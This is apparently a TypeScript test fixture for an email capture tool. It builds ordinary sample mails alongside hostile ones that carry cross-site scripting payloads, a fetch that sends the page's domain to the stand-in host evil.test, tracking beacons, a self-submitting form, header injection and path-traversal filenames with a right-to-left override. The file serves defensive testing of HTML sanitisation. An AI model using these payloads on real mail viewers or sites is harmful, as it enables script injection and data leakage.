/**
 * Messages for the capture mode: pleasant ones to look at, and nasty ones that try to run, load or lie.
 *
 * Runs in: tests.
 */

import { Buffer } from 'node:buffer';

export interface CapturedMail {
  readonly from: string;
  readonly to: string;
  readonly raw: string;
}

/** 1 x 1, as a picture that is there. */
const pixel =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

const crlf = (lines: readonly string[]) => `${lines.join('\r\n')}\r\n`;

/** A header as mail programs write it, and the body's own fields and lines behind it. */
function mail(
  from: string,
  to: string,
  subject: string,
  rest: readonly string[],
  date = new Date(),
): CapturedMail {
  const address = /<([^<>]*)>$/.exec(from)?.[1] ?? from;
  const id = Buffer.from(`${subject}${to}`).toString('hex').slice(0, 24);
  const head = [
    `From: ${from}`,
    `To: ${to}`,
    `Subject: ${subject}`,
    `Date: ${date.toUTCString().replace('GMT', '+0000')}`,
    `Message-ID: <${id}@${address.split('@')[1]}>`,
    'MIME-Version: 1.0',
  ];
  const path = /<([^<>]*)>$/.exec(to)?.[1] ?? to;
  return { from: address, to: path, raw: crlf([...head, ...rest]) };
}

const html = (body: string) => ['Content-Type: text/html; charset=utf-8', '', body];

const orderHtml = `<body style="margin:0;background:#f3f5f4;font-family:Helvetica,Arial,sans-serif;color:#1f2a28">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:36px 16px">
<table role="presentation" width="520" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:14px">
<tr><td style="background:#0f766e;color:#fff;padding:26px 36px;border-radius:14px 14px 0 0;font-size:19px"><b>Quipu Coffee</b></td></tr>
<tr><td style="padding:32px 36px 8px"><h1 style="font-size:25px;margin:0 0 12px">Your order is on its way</h1>
<p style="line-height:1.6;margin:0 0 20px">Hello Ann, we roasted your coffee this morning, and the parcel left Cusco at noon.</p></td></tr>
<tr><td style="padding:0 36px"><table width="100%" cellpadding="0" cellspacing="0" style="font-size:15px;line-height:2.3">
<tr><td>2 × Valle Sagrado, 500 g</td><td align="right">€ 31.00</td></tr><tr><td>1 × Drip kettle</td><td align="right">€ 44.00</td></tr>
<tr><td style="border-top:1px solid #dfe5e3"><b>Total</b></td><td align="right" style="border-top:1px solid #dfe5e3"><b>€ 75.00</b></td></tr></table></td></tr>
<tr><td style="padding:26px 36px 36px"><a href="https://shop.example.com/orders/1042" style="background:#0f766e;color:#fff;padding:13px 24px;border-radius:9px;text-decoration:none">Follow the parcel</a></td></tr>
</table></td></tr></table></body>`;

/** The newest last: it is first in the list. */
export const pleasantMails: readonly CapturedMail[] = [
  mail('Build <ci@example.com>', 'team@example.com', '[chaski] build 418 passed', [
    'Content-Type: text/plain; charset=utf-8',
    '',
    'All 2,114 tests passed in 94 s.',
    'https://ci.example.com/builds/418',
  ]),
  mail(
    'Weekly Letter <news@letters.example>',
    'ann@example.com',
    'Seven things about high valleys',
    [
      'List-Unsubscribe: <https://letters.example/u/7f3a>',
      'List-Unsubscribe-Post: List-Unsubscribe=One-Click',
      'List-Id: <weekly.letters.example>',
      ...html('<h1>Seven things</h1><p>Rivers, terraces, and a runner with a shell.</p>'),
    ],
  ),
  mail('Accounts <no-reply@example.com>', 'ann@example.com', 'Your sign-in code is 481 902', [
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Your code is 481 902. It works for ten minutes.',
  ]),
  mail('Joaquín Mamani <joaquin@example.com>', 'ann@example.com', 'Photos of the bridge', [
    'Content-Type: multipart/mixed; boundary=b',
    '',
    ...['--b', 'Content-Type: text/plain; charset=utf-8', '', 'Here they are. Grass ropes!', '--b'],
    'Content-Type: image/png; name="bridge.png"',
    'Content-Disposition: attachment; filename="bridge.png"',
    ...['Content-Transfer-Encoding: base64', '', pixel, '--b--'],
  ]),
  mail(
    'Calendar <calendar@example.com>',
    'ann@example.com',
    'Invitation: planning, Tuesday 10:00',
    [
      'Content-Type: multipart/alternative; boundary=b',
      '',
      ...[
        '--b',
        'Content-Type: text/plain',
        '',
        'Planning, Tuesday 10:00 to 11:00, room Titicaca.',
      ],
      ...[
        '--b',
        'Content-Type: text/calendar; method=REQUEST',
        '',
        'BEGIN:VCALENDAR',
        'END:VCALENDAR',
      ],
      '--b--',
    ],
  ),
  mail(
    'Quipu Coffee <orders@shop.example.com>',
    'Ann Vega <ann@example.com>',
    'Your order is on its way',
    [
      'Content-Type: multipart/mixed; boundary=m',
      '',
      ...['--m', 'Content-Type: multipart/alternative; boundary=b', ''],
      ...[
        '--b',
        'Content-Type: text/plain; charset=utf-8',
        '',
        'Hello Ann, we roasted your coffee',
      ],
      ...[
        'this morning, and the parcel left Cusco at noon.',
        '',
        'https://shop.example.com/orders/1042',
      ],
      ...['--b', 'Content-Type: text/html; charset=utf-8', '', orderHtml, '--b--', '--m'],
      'Content-Type: application/pdf; name="invoice-1042.pdf"',
      'Content-Disposition: attachment; filename="invoice-1042.pdf"',
      ...[
        'Content-Transfer-Encoding: base64',
        '',
        ...new Array<string>(150).fill('JVBERi0xLjQK'.repeat(6)),
        '--m--',
      ],
    ],
  ),
];

/** Calls what a test puts into the page under this name, and asks a host that must never be asked. */
const attack =
  "parent.pwned=1;top.pwned=1;window.pwned=1;fetch('http://evil.test/'+document.domain)";

export const nastyHtml: Readonly<Record<string, string>> = {
  script: `<script>${attack}</script>`,
  'script after a broken comment': `<!--><script>${attack}</script>-->`,
  'event handlers': `<img src=x onerror="${attack}"><body onload="${attack}"><details open ontoggle="${attack}">`,
  svg: `<svg onload="${attack}"><script>${attack}</script><animate onbegin="${attack}" attributeName=x dur=1s></svg>`,
  'frame with a document': `<iframe srcdoc="<script>${attack}</script>"></iframe><iframe src="javascript:${attack}"></iframe>`,
  'object and embed': `<object data="data:text/html,<script>${attack}</script>"></object><embed src="http://evil.test/e">`,
  'refresh to a script': `<meta http-equiv="refresh" content="0;url=javascript:${attack}">`,
  'refresh to another site': '<meta http-equiv="refresh" content="0;url=http://evil.test/away">',
  'pictures, styles and fonts from elsewhere':
    '<img src="http://evil.test/p.gif"><link rel=stylesheet href="http://evil.test/s.css">' +
    '<style>@import url(http://evil.test/i.css);@font-face{font-family:f;src:url(http://evil.test/f)}' +
    'body{background:url(http://evil.test/b);font-family:f}</style><video src="http://evil.test/v" autoplay></video>',
  'prefetch and ping':
    '<link rel=prefetch href="http://evil.test/pre"><link rel=dns-prefetch href="//evil.test">' +
    '<link rel=preconnect href="http://evil.test">',
  'form that sends itself': `<form action="http://evil.test/f" id=f><input name=a></form><script>f.submit()</script>`,
  'own base': '<base href="http://evil.test/"><img src="relative.gif"><a href="x">x</a>',
  'own policy': `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><script>${attack}</script>`,
  'link to a script': `<a id=go href="javascript:${attack}">go</a><script>go.click()</script>`,
  'end of everything': `</body></html></iframe></template></title></textarea><script>${attack}</script>`,
};

const payload = `"><img src=x onerror="${attack}"><script>${attack}</script>`;

/** Every field a reader sees carries markup; the parts lie about what they are. */
export function nastyMails(): readonly CapturedMail[] {
  const mails = Object.entries(nastyHtml).map(([name, body]) =>
    mail('a@evil.test', 'b@example.com', name, html(body)),
  );
  const fields = mail(`${payload} <a@evil.test>`, 'b@example.com', `Fields ${payload}`, [
    `X-Evil: ${payload}`,
    `List-Unsubscribe: <javascript:${attack}>`,
    'Content-Type: multipart/mixed; boundary=b',
    '',
    ...['--b', 'Content-Type: text/plain', '', `Text ${payload} javascript:${attack}`, '--b'],
    `Content-Type: text/html; name="../../etc/<script>${attack}</script>.html"`,
    'Content-Disposition: attachment; filename="../../\u202egnp.<img src=x onerror=alert(1)>.html"',
    ...['', `<script>${attack}</script>`, '--b'],
    'Content-Type: image/svg+xml; name=x.svg',
    'Content-Disposition: attachment; filename=x.svg',
    ...['', `<svg xmlns="http://www.w3.org/2000/svg" onload="${attack}"/>`, '--b--'],
  ]);
  return [...mails, fields];
}
